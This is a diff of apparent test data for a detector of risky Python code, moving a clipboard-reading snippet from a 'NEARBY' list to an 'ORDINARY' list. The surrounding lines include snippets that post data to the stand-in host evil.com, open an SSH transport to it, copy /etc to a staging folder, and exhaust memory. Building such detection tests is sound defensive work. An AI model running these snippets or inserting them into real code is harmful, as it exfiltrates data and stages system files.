@@ -129,6 +129,7 @@ PAIRS = {
 
 
 ORDINARY = [
+    "import pyperclip\nprint(pyperclip.paste())",
     "from PIL import ImageGrab\nImageGrab.grab().save('s.png')",
     "import json\njson.dump({'a': 1}, open('out.json', 'w'))",
     "import os\nos.environ['HTTPS_PROXY'] = 'http://localhost:8080'",
@@ -146,7 +147,6 @@ NEARBY = [
     "import httpx\nhttpx.Client(base_url='https://evil.com').post('/x', content=b'1')",
     "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://evil.com', data=b'x')",
     "import paramiko\nparamiko.Transport(('evil.com', 22))",
-    "import pyperclip\nprint(pyperclip.paste())",
     "import shutil\nshutil.copytree('/etc', '/tmp/stage')",
     "found = []\nwhile True:\n    found.append('x' * 1000)",
     "import importlib\ndef start(name):\n    importlib.import_module(name).run('x')",
